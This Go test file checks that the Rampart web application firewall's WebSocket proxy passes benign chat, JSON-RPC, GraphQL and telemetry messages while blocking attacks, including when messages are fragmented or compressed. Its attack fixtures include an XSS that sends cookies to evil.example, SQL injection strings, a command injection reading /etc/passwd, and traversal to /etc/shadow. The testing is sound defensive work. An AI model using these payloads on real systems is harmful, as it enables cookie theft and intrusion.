package wsproxy

import (
	"testing"

	"github.com/coder/websocket"

	"github.com/rampartwaf/rampart/internal/engine"
	"github.com/rampartwaf/rampart/internal/parse"
)

// Detection end to end: the real engine judges messages relayed to a real echo upstream.
// Each message is sent in every way a client may send it: one frame, split across
// fragments (with a ping between them), compressed, and compressed in fragments.

var detectionCases = []struct {
	name    string
	msg     string
	blocked bool
}{
	// Benign traffic of the applications Rampart sits in front of.
	{"chat", `{"type":"chat","room":"lobby","text":"Anyone up for a game tonight? I'll be on at 8 -- bring snacks ;)"}`, false},
	{"chat with apostrophes and markup-ish text", `{"type":"chat","text":"O'Brien said the <3 emoji means 'love' & he's right: 2 < 3"}`, false},
	{"json-rpc subscribe", `{"jsonrpc":"2.0","method":"subscribe","params":{"channel":"ticker.BTC-USD","depth":20},"id":7}`, false},
	{"json-rpc order", `{"jsonrpc":"2.0","method":"order.place","params":{"symbol":"ETH-USD","side":"buy","qty":"0.25","price":"3150.5"},"id":8}`, false},
	{"graphql subscription", `{"type":"subscribe","id":"1","payload":{"query":"subscription OnMessage($room: ID!) { messageAdded(room: $room) { id text author { name } } }","variables":{"room":"lobby"}}}`, false},
	{"iot telemetry", `{"device":"thermo-100","temp":21.5,"humidity":40,"ts":"2026-12-02T10:00:00Z","fw":"1.4.2"}`, false},
	{"game move", `{"op":"move","x":12,"y":-3,"path":"/maps/level-2/zone-a","seq":1042}`, false},
	{"plain text", `hello everyone, the select box on the order form is broken`, false},

	// Attacks, in the places these applications carry user input.
	{"xss in chat", `{"type":"chat","text":"<img src=x onerror=alert(document.cookie)>"}`, true},
	{"sqli in json-rpc params", `{"jsonrpc":"2.0","method":"user.find","params":{"name":"x' OR '1'='1' --"},"id":1}`, true},
	{"sqli in graphql variables", `{"type":"subscribe","id":"2","payload":{"query":"query($id: ID!){ user(id: $id){ name } }","variables":{"id":"1 UNION SELECT password FROM users--"}}}`, true},
	{"command injection", `{"op":"ping","host":"8.8.8.8; cat /etc/passwd"}`, true},
	{"traversal", `{"op":"download","file":"../../../../etc/shadow"}`, true},
	{"xss in plain text", `<script>fetch('//evil.example/?c='+document.cookie)</script>`, true},
}

func detectionEnv(t *testing.T) *env {
	t.Helper()
	eng, err := engine.New(engine.Options{Mode: engine.ModeBlock, Limits: parse.Limits{Params: 2048, Depth: 64}})
	if err != nil {
		t.Fatal(err)
	}
	return newEnv(t, echoUpstream(websocket.CompressionContextTakeover), envOptions{
		inspect: true, limit: 1 << 20,
		opts: func(o *Options) { o.Inspector = eng },
	})
}

func TestDetectionThroughRelay(t *testing.T) {
	const ext = "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover; server_no_context_takeover"
	split := func(s string) (a, b, c string) {
		n := len(s)
		return s[:n/3], s[n/3 : 2*n/3], s[2*n/3:]
	}
	ways := []struct {
		name   string
		header []string
		frames func(t *testing.T, msg string) [][]byte
	}{
		{"one frame", nil, func(_ *testing.T, msg string) [][]byte { return frames(cf(true, OpText, msg)) }},
		{"fragments", nil, func(_ *testing.T, msg string) [][]byte {
			a, b, c := split(msg)
			return frames(cf(false, OpText, a), cf(true, OpPing, "keepalive"), cf(false, OpContinuation, b), cf(true, OpContinuation, c))
		}},
		{"compressed", []string{ext}, func(t *testing.T, msg string) [][]byte {
			return frames(frame(true, RSV1, OpText, deflateRaw(t, []byte(msg)), true))
		}},
		{"compressed fragments", []string{ext}, func(t *testing.T, msg string) [][]byte {
			z := deflateRaw(t, []byte(msg))
			n := len(z)
			return frames(frame(false, RSV1, OpText, z[:n/2], true), frame(true, 0, OpContinuation, z[n/2:], true))
		}},
	}
	for _, way := range ways {
		t.Run(way.name, func(t *testing.T) {
			e := detectionEnv(t)
			for _, tc := range detectionCases {
				t.Run(tc.name, func(t *testing.T) {
					rc := e.dialRaw("/ws", way.header...)
					rc.send(way.frames(t, tc.msg)...)
					if tc.blocked {
						if code := rc.expectClose(); code != ClosePolicyViolation {
							t.Fatalf("close %d, want 1008", code)
						}
						rc.sendQuiet(cf(true, OpClose, closePayload(1000, "")))
						rc.expectEOF()
						return
					}
					for {
						h, p, err := rc.readFrame()
						if err != nil {
							t.Fatalf("waiting for the echo: %v", err)
						}
						if h.Opcode.IsControl() {
							if h.Opcode == OpClose {
								t.Fatalf("benign message closed the connection: %q", p)
							}
							continue // the pong
						}
						if h.Rsv&RSV1 != 0 {
							p = inflateForTest(t, p)
						}
						if string(p) != tc.msg {
							t.Fatalf("echo %q, want the message unchanged", p)
						}
						break
					}
					rc.send(cf(true, OpClose, closePayload(1000, "")))
					if code := rc.expectClose(); code != 1000 {
						t.Errorf("close reply %d", code)
					}
				})
			}
		})
	}
}

// TestDetectionLibraryClient sends the same messages with a WebSocket library (which
// compresses with context takeover), as a browser or app would.
func TestDetectionLibraryClient(t *testing.T) {
	e := detectionEnv(t)
	for _, tc := range detectionCases {
		t.Run(tc.name, func(t *testing.T) {
			c := dialWS(t, e, websocket.CompressionContextTakeover)
			ctx := testCtx(t)
			// A benign message first, so the attack rides on an inflation history.
			if err := c.Write(ctx, websocket.MessageText, []byte(`{"type":"hello"}`)); err != nil {
				t.Fatal(err)
			}
			if _, _, err := c.Read(ctx); err != nil {
				t.Fatal(err)
			}
			if err := c.Write(ctx, websocket.MessageText, []byte(tc.msg)); err != nil {
				t.Fatal(err)
			}
			_, got, err := c.Read(ctx)
			if tc.blocked {
				if websocket.CloseStatus(err) != websocket.StatusPolicyViolation {
					t.Fatalf("got %q, %v; want close 1008", got, err)
				}
				return
			}
			if err != nil || string(got) != tc.msg {
				t.Fatalf("got %q, %v; want the message echoed", got, err)
			}
			c.Close(websocket.StatusNormalClosure, "")
		})
	}
}
